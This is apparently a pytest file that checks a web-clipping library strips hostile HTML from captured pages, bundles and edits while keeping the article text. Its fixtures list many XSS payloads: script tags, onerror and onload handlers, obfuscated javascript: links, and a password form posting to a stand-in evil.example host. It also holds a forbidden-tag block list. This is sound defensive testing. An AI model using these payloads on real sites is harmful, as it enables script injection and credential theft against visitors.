"""Nothing let in: stored HTML is sanitised whatever the captured page holds.

The pages are captured through ``Library.add`` (the path of a paste, a drop
and a bulk import) and read back from the library file, so what is checked
is exactly what the reader would be given to display.
"""

from __future__ import annotations

import re

import pytest
from lxml import html as lxml_html

from clipper.library import Library
from clipper.model import Capture

PARAGRAPHS = [
    "The ministry announced a new fund for domestic lithography research on Tuesday, "
    "officials said, in the latest step of the national push for self-reliance.",
    "Analysts expect the programme to channel billions of yuan into equipment makers "
    "over the next five years, with the first grants due before the end of the quarter.",
    "Industry executives welcomed the move but warned that talent shortages remain the "
    "biggest obstacle to catching up with foreign suppliers of advanced tools.",
]

HOSTILE_BITS = [
    "<script>alert('pwned-script')</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<style>body { background: url('https://evil.example/track.png') }</style>",
    "<iframe src='https://evil.example/frame'></iframe>",
    "<object data='https://evil.example/flash.swf'></object>",
    "<embed src='https://evil.example/embed.swf'>",
    "<form action='https://evil.example/steal'><input name='password'><button>Go</button></form>",
    "<img src='x' onerror=\"alert('pwned-onerror')\">",
    "<svg onload=\"alert('pwned-svg')\"><circle r='4'/></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel='stylesheet' href='https://evil.example/s.css'>",
    "<noscript><img src='https://evil.example/pixel.gif'></noscript>",
    "<template><script>alert('pwned-template')</script></template>",
]

INLINE_LINKS = [
    "<a href=\"javascript:alert('pwned-js')\">plain javascript link</a>",
    "<a href=\" JaVaScRiPt:alert('pwned-case')\">mixed case link</a>",
    "<a href=\"&#106;avascript:alert('pwned-entity')\">entity link</a>",
    "<a href=\"java\tscript:alert('pwned-tab')\">tab link</a>",
    "<a href=\"vbscript:msgbox('pwned-vb')\">vbscript link</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>",
    "<a href=\"https://example.org/ok\" onclick=\"alert('pwned-click')\">good link</a>",
    "<span style=\"background:url(javascript:alert('pwned-style'))\">styled words</span>",
    "<b onmouseover=\"alert('pwned-hover')\">bold words</b>",
]


def hostile_page() -> str:
    body = []
    for i, para in enumerate(PARAGRAPHS):
        body.append(f"<p onclick=\"alert('pwned-p{i}')\">{para} {INLINE_LINKS[i * 3]} "
                    f"{INLINE_LINKS[i * 3 + 1]} {INLINE_LINKS[i * 3 + 2]}</p>")
        body.extend(HOSTILE_BITS[i * 5:(i + 1) * 5])
    return ("<!DOCTYPE html><html><head><title>Lithography fund announced</title>"
            "<script>var tracker = 'pwned-head';</script></head>"
            "<body onload=\"alert('pwned-body')\"><article><h1>Lithography fund announced</h1>"
            + "\n".join(body) + "</article></body></html>")


def fragment() -> str:
    """What a browser puts on the clipboard for a selection: no <html>, no <head>."""
    return ("<meta charset='utf-8'>" + "".join(
        f"<p>{p} {INLINE_LINKS[i]}</p>{HOSTILE_BITS[i]}" for i, p in enumerate(PARAGRAPHS)))


FORBIDDEN_TAGS = {"script", "style", "iframe", "object", "embed", "form", "input", "button",
                  "svg", "math", "meta", "base", "link", "noscript", "template", "frame",
                  "frameset", "applet", "textarea", "select"}
SAFE_SCHEMES = re.compile(r"^(https?:|mailto:|#|/|\.|[^:]*$)", re.IGNORECASE)


def assert_sanitised(html: str) -> None:
    assert html.strip(), "nothing stored"
    low = html.lower()
    # A link made safe by being resolved into an http(s) address may keep the
    # attack's words in its path ("java\tscript:" read as a relative link).
    outside_links = re.sub(r'\b(href|src)="https?://[^"]*"', "", low)
    assert "pwned" not in outside_links, html
    assert "javascript:" not in low and "vbscript:" not in low, html
    assert not re.search(r"<\s*(" + "|".join(FORBIDDEN_TAGS) + r")\b", low), html
    tree = lxml_html.fragment_fromstring(html, create_parent="div")
    for el in tree.iter():
        assert el.tag not in FORBIDDEN_TAGS, el.tag
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (el.tag, name)
            assert name.lower() != "style", (el.tag, name, value)
            if name.lower() in {"href", "src", "action", "formaction", "xlink:href", "srcset"}:
                assert SAFE_SCHEMES.match(value.strip()), (el.tag, name, value)


@pytest.mark.parametrize("content", [hostile_page(), fragment()], ids=["page", "fragment"])
def test_hostile_html_is_stored_sanitised(library: Library, content: str) -> None:
    clip = library.add(Capture(kind="html", content=content, name="hostile.html",
                               url="https://news.example.com/2024/litho-fund"))
    stored = library.get(clip.uuid)
    assert_sanitised(stored.html)
    assert "self-reliance" in stored.text and "talent shortages" in stored.text
    assert "pwned" not in stored.text and "alert(" not in stored.text
    # The article survived the cleaning of the attack around it.
    assert "lithography research" in stored.html
    # The original is kept untouched beside it (shown only as source, never rendered).
    assert stored.original is not None and stored.original.content == content


def test_links_and_text_formatting_survive_sanitising(library: Library) -> None:
    clip = library.add(Capture(kind="html", content=hostile_page(), name="hostile.html"))
    stored = library.get(clip.uuid).html
    assert 'href="https://example.org/ok"' in stored
    assert "bold words" in stored and "styled words" in stored


def test_html_arriving_in_a_bundle_is_stored_sanitised(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """A colleague's bundle is as untrusted as a web page: its HTML is sanitised on import."""
    from clipper.model import Article, Original

    hostile = "".join(f"<p>{p} {INLINE_LINKS[i]}</p>{HOSTILE_BITS[i]}"
                      for i, p in enumerate(PARAGRAPHS))
    sender = Library.open(tmp_path / "sender.db")
    sender.capture(Article(title="Shared", text="\n\n".join(PARAGRAPHS), html=hostile),
                   Original("html", hostile))
    bundle = tmp_path / "share.clipbundle"
    sender.export_bundle(bundle)
    sender.close()
    receiver = Library.open(tmp_path / "receiver.db")
    try:
        summary = receiver.import_bundle(bundle)
        [uuid] = summary.added
        assert_sanitised(receiver.get(uuid).html)
    finally:
        receiver.close()


def test_html_saved_by_an_edit_is_stored_sanitised(library: Library) -> None:
    clip = library.add(Capture(kind="html", content=hostile_page(), name="hostile.html"))
    library.update(clip.uuid, html=fragment())
    assert_sanitised(library.get(clip.uuid).html)
